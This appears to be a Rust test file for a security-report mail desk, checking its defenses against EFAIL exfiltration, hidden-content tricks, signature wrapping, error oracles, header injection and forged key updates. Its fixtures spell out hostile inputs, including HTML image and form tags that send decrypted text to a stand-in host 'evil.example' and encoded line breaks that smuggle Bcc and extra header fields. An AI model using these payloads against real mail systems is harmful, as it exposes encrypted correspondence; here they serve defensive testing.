//! Decrypted text on its way out: into the answer, into HTML that calls home, into a header, to a key that was smuggled in.

use super::packets::{self, dearmored};
use super::{SECRET, assert_closed, header, multipart, people};
use crate::support::desk::{Desk, Letter, pgp_mime};
use psirtd::domain::message::Mailbox;
use psirtd::domain::signature::Source;
use psirtd::keyring::{self, Keyring};
use sequoia_openpgp::Cert;

const SAM: &str = "Sam Secret <sam@example.com>";
const RITA: &str = "Rita Reporter <rita@example.net>";
const MALLORY: &str = super::MALLORY;

fn outside(from: &str) -> String {
    outside_number(from, 1)
}

fn outside_number(from: &str, number: usize) -> String {
    let (_, domain) = from.trim_end_matches('>').rsplit_once('@').unwrap();
    format!(
        "From: {from}\nTo: security@example.org\nSubject: ...\nMessage-ID: <m-{number}@{domain}>\nMIME-Version: 1.0"
    )
}

/// The ciphertext Mallory caught: Sam's words, in armor.
fn caught(desk: &Desk, inside: &str) -> String {
    let mail = desk.encrypted_mail(&outside(SAM), inside);
    packets::armored(&dearmored(&mail))
}

/// The ciphertext as a PGP/MIME entity.
fn entity(armored: &str) -> String {
    pgp_mime("X: x", armored).replacen("X: x\nMIME-Version: 1.0\n", "", 1)
}

fn plain(text: &str) -> String {
    format!("Content-Type: text/plain; charset=utf-8\n\n{text}\n")
}

/// The acknowledgement, if there is one, and the relay.
fn by_kind(desk: &Desk) -> (Option<Letter>, Letter) {
    let mut letters = desk.letters();
    let relay = letters.pop().unwrap();
    assert_eq!((relay.kind.as_str(), relay.encrypted), ("relay", true));
    assert_eq!(relay.to, "ada@example.org", "and to nobody whom the mail names");
    (letters.pop(), relay)
}

/// Nothing of it is in the letter, readable or after decoding.
#[track_caller]
fn assert_tells_nothing(letter: &Letter) {
    for told in [String::from_utf8_lossy(&letter.raw).into_owned(), letter.text(), letter.inside.clone()] {
        for word in ["session", "tokens", "clock", "evil"] {
            assert!(!told.contains(word), "{word}: {told}");
        }
    }
}

/// EFAIL's other half: a tag is open when the ciphertext begins, and closed behind it. A program that puts the parts together
/// before it shows them sends the text away as the name of a picture.
#[test]
fn efail_direct_exfiltration() {
    let desk = Desk::new();
    let armored = caught(&desk, &plain(SECRET));
    let (open, close) = ("<img src=\"https://evil.example/?", "\">");
    let html = |text: &str| format!("Content-Type: text/html\n\n{text}\n");
    let parts = [html(open), entity(&armored), html(close)];
    let parts: Vec<&str> = parts.iter().map(String::as_str).collect();
    let inline = [html(open), format!("Content-Type: text/plain\n\n{armored}"), html(close)];
    let inline: Vec<&str> = inline.iter().map(String::as_str).collect();
    let bodies = [
        multipart("mixed", "outer", &parts),
        multipart("related", "outer", &parts),
        multipart("alternative", "outer", &parts),
        multipart("mixed", "outer", &inline),
        html(&format!("{open}\n{armored}\n{close}")),
        html(&format!("<form action=\"https://evil.example/\"><textarea>\n{armored}\n</textarea></form>")),
        plain(&format!("{open}\n{armored}\n{close}")),
    ];
    for (number, body) in bodies.iter().enumerate() {
        desk.receives(&format!("{}\n{body}", outside_number(MALLORY, number + 2)));
        let (acknowledgement, relay) = by_kind(&desk);
        if let Some(letter) = &acknowledgement {
            assert_tells_nothing(letter);
        }
        assert!(relay.inside.contains("Content-Type: text/plain"), "{}", relay.inside);
        assert!(
            !relay.inside.contains("text/html"),
            "nothing that a program opens by itself: {}",
            relay.inside
        );
        let text = relay.text();
        if let Some(at) = text.find(SECRET) {
            let before = &text[..at];
            let label = before.rfind('[').unwrap_or_else(|| panic!("no label: {text}"));
            assert!(
                before.rfind("evil").is_none_or(|html| html < label),
                "in one piece with the html: {text}"
            );
            assert!(text[at..].contains("[end of the"), "{text}");
        }
        for (name, bytes) in relay.attachments() {
            let bytes = String::from_utf8_lossy(&bytes).into_owned();
            assert!(!(bytes.contains(SECRET) && bytes.contains("evil")), "{name}: {bytes}");
        }
    }
}

/// The ciphertext is out of sight in a harmless question, so that whoever answers quotes what it says.
#[test]
fn covert_content_beside_ciphertext() {
    let desk = Desk::new();
    let armored = caught(&desk, &plain(SECRET));
    let question = "What are your business hours?";
    let blank = "\n".repeat(500);
    let hidden =
        "<p>What are your business hours?</p><div style=\"display: none; font-size: 0; color: white\">";
    let bodies = [
        multipart("mixed", "outer", &[&plain(&format!("{question}{blank}")), &entity(&armored)]),
        plain(&format!("{question}\n{blank}\n{armored}")),
        plain(&format!("{question}\n{}\n{armored}", "> ".repeat(200))),
        multipart(
            "mixed",
            "outer",
            &[
                &format!("Content-Type: text/html\n\n{hidden}"),
                &entity(&armored),
                "Content-Type: text/html\n\n</div>",
            ],
        ),
        format!("Content-Type: text/html\n\n{hidden}\n{armored}\n</div>\n"),
        multipart("related", "outer", &[&plain(question), &entity(&armored)]),
    ];
    for (number, body) in bodies.iter().enumerate() {
        desk.receives(&format!("{}\n{body}", outside_number(MALLORY, number + 2)));
        let (acknowledgement, relay) = by_kind(&desk);
        if let Some(letter) = &acknowledgement {
            assert_tells_nothing(letter);
            assert!(!letter.text().contains("business hours"), "quotes nothing at all");
        }
        let text = relay.text();
        assert!(text.contains("Encryption:  a part"), "{text}");
        assert!(!text.contains("Signature:   good"), "{text}");
        assert!(!text.contains(SECRET) || text.contains("[end of the"), "{text}");
    }
}

/// Around Sam's ciphertext Mallory signs: her signature is right, but the words inside are not hers. A good one would have the
/// desk ask her, whose certificate it holds, for what the report lacks, which tells what it says.
#[test]
fn signature_around_the_ciphertext_of_another() {
    let ciphertext = packets::to_desk(&packets::literal(&plain(SECRET)));
    let mallory = packets::by(&people().mallory);
    let detached = mallory.entity(&entity(&packets::armored(&ciphertext)));
    let in_one_message = pgp_mime(&header(MALLORY), &packets::armored(&mallory.around(&ciphertext)));
    for mail in [format!("{}\n{detached}", header(MALLORY)), in_one_message] {
        let message = super::opened(&mail);
        assert_ne!(
            message.signature.word(),
            "good",
            "she vouches for what she cannot read: {}",
            message.text
        );
    }
}

/// One failure sounds like another: who tries changed ciphertexts, one after the other, learns nothing from the answers.
#[test]
fn error_oracle() {
    let desk = Desk::new();
    let mail = desk.encrypted_mail(&outside(SAM), &plain(SECRET));
    let ciphertext = dearmored(&mail);
    let changed = |tag: u8, change: fn(&mut Vec<u8>)| {
        let mut body = packets::body_of(&ciphertext, tag);
        change(&mut body);
        packets::with_body(&ciphertext, tag, &body)
    };
    let flip = |body: &mut Vec<u8>| *body.last_mut().unwrap() ^= 1;
    let tries = [
        changed(packets::PKESK_TAG, flip),
        changed(packets::PKESK_TAG, |body| body[20] ^= 1),
        changed(packets::SEIP_TAG, flip),
        changed(packets::SEIP_TAG, |body| body[1] ^= 1),
        changed(packets::SEIP_TAG, |body| body[17] ^= 1),
        changed(packets::SEIP_TAG, |body| body[30] ^= 1),
        changed(packets::SEIP_TAG, |body| body.truncate(40)),
        changed(packets::SEIP_TAG, |body| body.truncate(body.len() - 22)),
    ];
    let mut answers = Vec::new();
    for (number, message) in tries.iter().enumerate() {
        desk.receives(&pgp_mime(&outside_number(RITA, number + 2), &packets::armored(message)));
        let (acknowledgement, _) = by_kind(&desk);
        let acknowledgement = acknowledgement.expect("an answer to Rita");
        assert_tells_nothing(&acknowledgement);
        answers.push(acknowledgement.text().replace(&format!("EX-2026-{:04}", number + 1), "CASE"));
    }
    answers.dedup();
    assert_eq!(answers.len(), 1, "{answers:#?}");
}

/// Every name a letter's header may have.
const FIELDS: [&str; 12] = [
    "From",
    "To",
    "Subject",
    "Date",
    "Message-ID",
    "In-Reply-To",
    "References",
    "Auto-Submitted",
    "X-Auto-Response-Suppress",
    "MIME-Version",
    "Content-Type",
    "HP-Outer",
];

#[track_caller]
fn assert_no_field_added(letter: &Letter) {
    for entity in [&letter.outside, &letter.inside] {
        let fields = entity.split("\n\n").next().unwrap();
        for line in fields.lines() {
            let (name, value) = line.split_once(": ").unwrap_or_else(|| panic!("{line:?} in {fields}"));
            assert!(
                FIELDS.contains(&name) || ["Content-Transfer-Encoding", "Autocrypt"].contains(&name),
                "{name} in {fields}"
            );
            assert!(!value.contains(['\r', '\u{0}']), "{line:?}");
        }
    }
    for field in ["Bcc", "Cc", "Reply-To", "X-Evil"] {
        assert!(letter.header(field).is_none() && letter.protected(field).is_none(), "{field}");
    }
}

/// Decoded words may hold line ends, which end a field and begin one that Mallory wrote.
#[test]
fn header_injection() {
    let evil = "=0D=0ABcc:_everybody@evil.example=0D=0AX-Evil:_yes=0D=0A=0D=0A<script>";
    let folded = "=?utf-8?Q?a=0A?=\n =?utf-8?Q?X-Evil:_yes?=";
    let desk = Desk::new();
    let mails = [
        format!("From: =?utf-8?Q?Rita{evil}?= <rita@example.net>\nSubject: =?utf-8?Q?x{evil}?=\nMessage-ID: <a@example.net>"),
        format!("From: {RITA}\nSubject: {folded}\nMessage-ID: <=?utf-8?Q?b{evil}?=@example.net>"),
        format!("From: {RITA}\nSubject: x\nMessage-ID: <c\t X-Evil: yes\n Bcc: y@example.net>\nReferences: <=?utf-8?Q?d{evil}?=@x> <e\n X-Evil: yes@x>"),
        "From: Rita <\"rita\nX-Evil: yes\"@example.net>\nSubject: x\nMessage-ID: <f@example.net>".to_owned(),
        format!("From: =?utf-8?B?{}?= <rita@example.net>\nSubject: x\nMessage-ID: <g@example.net>", packets::base64(b"R\r\nX-Evil: yes\r\n").trim()),
        "From: <rita@example.net\u{2028}X-Evil: yes>\nSubject: x\u{2028}X-Evil: yes\u{85}Bcc: y\nMessage-ID: <h@example.net>".to_owned(),
        format!("From: {RITA}\nSubject: x\nMessage-ID: <i@example.net>\nIn-Reply-To: <{}>", "x".repeat(5000)),
    ];
    for (number, mail) in mails.iter().enumerate() {
        let file = format!(
            "Content-Type: application/x; name=\"=?utf-8?Q?n{evil}?=\"\n\
             Content-Disposition: attachment; filename*=utf-8''f%0D%0AX-Evil:%20yes%0D%0A%0D%0Abody\n\nx"
        );
        let body = multipart("mixed", "outer", &[&plain("A heap overflow."), &file]);
        desk.receives(&format!("{mail}\n{body}"));
        let letters = desk.letters();
        assert!(!letters.is_empty(), "mail {number}");
        for letter in &letters {
            assert_no_field_added(letter);
            for (name, _) in letter.attachments() {
                assert!(!name.contains(['\r', '\n', '/']), "{name:?}");
            }
        }
    }
}

/// The same in the subject that comes out of the ciphertext.
#[test]
fn header_injection_by_a_protected_subject() {
    let desk = Desk::new();
    for (number, subject) in [
        "=?utf-8?Q?x=0D=0ABcc:_everybody@evil.example=0D=0A=0D=0Abody?=",
        "=?utf-8?B?eA0KWC1FdmlsOiB5ZXM=?=",
        "x\n\tX-Evil: yes",
        "x\u{2028}X-Evil: yes\u{85}Bcc: y",
    ]
    .iter()
    .enumerate()
    {
        let inside = format!(
            "Content-Type: text/plain; protected-headers=\"v1\"; hp=\"cipher\"\nSubject: {subject}\n\nHello.\n"
        );
        desk.receives(&desk.encrypted_mail(&outside_number(SAM, number), &inside));
        let letters = desk.letters();
        assert_eq!(letters.len(), 2);
        for letter in &letters {
            assert_no_field_added(letter);
            assert_eq!(letter.header("Subject"), Some("[...]"));
        }
    }
}

/// "Mailto: me your secrets": a mail that says it is Sam's brings Mallory's key along, as his new one.
#[test]
fn key_update() {
    let desk = Desk::new();
    let false_sam = super::new_key("sam@example.com");
    let bytes = sequoia_openpgp::serialize::MarshalInto::to_vec(&false_sam).unwrap();
    let armored = packets::armored_key(&bytes);
    let autocrypt = format!(
        "Autocrypt: addr=sam@example.com; prefer-encrypt=mutual; keydata={}",
        packets::base64(&bytes).replace('\n', "")
    );
    let attached = format!(
        "Content-Type: application/pgp-keys; name=\"new.asc\"\nContent-Disposition: attachment\n\n{armored}"
    );
    let ciphertext = packets::armored(&packets::to_desk(&packets::literal(&plain("Hello."))));
    let mails = [
        format!("{autocrypt}\n{}\n\nMy new key.\n", outside_number(SAM, 2)),
        pgp_mime(&format!("{autocrypt}\n{}", outside_number(SAM, 3)), &ciphertext),
        format!(
            "{}\n{}",
            outside_number(SAM, 4),
            multipart("mixed", "outer", &[&plain("My new key."), &attached, &entity(&ciphertext)])
        ),
        // the same inside the encryption
        pgp_mime(
            &outside_number(SAM, 5),
            &packets::armored(&packets::to_desk(&packets::literal(&multipart(
                "mixed",
                "o",
                &[&plain("My new key."), &attached],
            )))),
        ),
    ];
    for mail in &mails {
        desk.receives(mail);
        // the desk reads letters as their readers do: it panics when one is encrypted to another key than the reader's own
        for letter in desk.letters() {
            assert!(letter.kind == "relay" || letter.to == "sam@example.com");
        }
    }
    desk.receives(&desk.encrypted_mail(&outside_number(SAM, 9), &plain(SECRET)));
    let (acknowledgement, relay) = by_kind(&desk);
    let acknowledgement = acknowledgement.expect("an answer to Sam");
    assert!(acknowledgement.encrypted, "to his own key");
    assert!(relay.text().contains("Signature:   good"), "{}", relay.text());
    desk.restarts();
    desk.receives(&desk.encrypted_mail(&outside_number(SAM, 10), &plain(SECRET)));
    assert!(by_kind(&desk).0.expect("an answer to Sam").encrypted);
}

fn attached(cert: &Cert) -> (Source, Vec<u8>) {
    (Source::Attached, keyring::armored(cert).unwrap().into_bytes())
}

/// His certificate has expired: the one that a mail brings along does not step into its place.
#[test]
fn key_update_when_the_old_key_has_expired() {
    let (held, offered) = (super::signers::expired_key_of_sam(), super::new_key("sam@example.com"));
    let sam = Mailbox::bare("sam@example.com");
    let mut keyring = Keyring::new();
    keyring.add_certificates(keyring::armored(&held).unwrap().as_bytes(), None).unwrap();
    let offers = [attached(&offered)];
    let chosen = keyring::choose(&keyring, &sam, &offers, super::now());
    assert_eq!(chosen.certificate, None);
    assert_eq!(chosen.other.unwrap().fingerprint, offered.fingerprint().to_hex(), "it is told of");
    let chosen = keyring::choose(&Keyring::new(), &sam, &offers, super::now());
    assert!(chosen.certificate.is_some(), "to somebody new, it does");
}

/// A certificate that names several addresses is for the author's only, and one that does not name it is for nobody.
#[test]
fn key_for_another_address() {
    let nobody = Keyring::new();
    let sam = Mailbox::bare("sam@example.com");
    let chosen = keyring::choose(&nobody, &sam, &[attached(&people().mallory)], super::now());
    assert_eq!(chosen.certificate, None);
    let named = packets::with_unsigned_user_id(&people().mallory, "sam@example.com");
    let chosen = keyring::choose(&nobody, &sam, &[attached(&named)], super::now());
    assert_eq!(chosen.certificate, None, "a name that nobody signed");
}

/// What could not be opened is enclosed as it came: nothing that was half opened is beside it.
#[test]
fn nothing_of_a_damaged_ciphertext_in_any_letter() {
    let desk = Desk::new();
    let ciphertext = dearmored(&desk.encrypted_mail(&outside(SAM), &plain(SECRET)));
    let mut body = packets::body_of(&ciphertext, packets::SEIP_TAG);
    *body.last_mut().unwrap() ^= 1;
    let damaged = packets::with_body(&ciphertext, packets::SEIP_TAG, &body);
    desk.receives(&pgp_mime(&outside(SAM), &packets::armored(&damaged)));
    for letter in desk.letters() {
        assert_tells_nothing(&letter);
    }
    assert_closed(&super::opened(&pgp_mime(&header(SAM), &packets::armored(&damaged))), "damaged");
}
